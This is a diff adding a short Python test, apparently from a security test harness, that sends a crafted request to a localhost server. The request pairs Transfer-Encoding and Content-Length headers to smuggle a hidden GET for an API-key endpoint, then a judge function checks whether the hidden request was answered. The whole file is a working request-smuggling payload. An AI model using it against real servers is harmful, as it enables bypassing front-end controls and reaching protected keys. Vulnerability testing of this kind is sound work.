@@ -1,0 +1,14 @@
+# aim: have the server see a request where whoever stands before it saw none
+# mechanism: Transfer-Encoding and Content-Length, the coding first
+# server: head
+# plain: naive
+
+second = f"GET /v1/key HTTP/1.1\r\nHost: localhost\r\nX-API-Key: {mine.key}\r\nConnection: close\r\n\r\n"
+
+
+def attack():
+    answered = raw(("POST /v1/sandboxes HTTP/1.1\r\nHost: localhost\r\n" + f"Transfer-Encoding: chunked\r\nContent-Length: {5 + len(second)}\r\n" + "\r\n" + "0\r\n\r\n" + second).encode("latin-1"))
+    return answers_in(answered) > 1 and "the hidden request was answered"
+
+
+judge(attack)
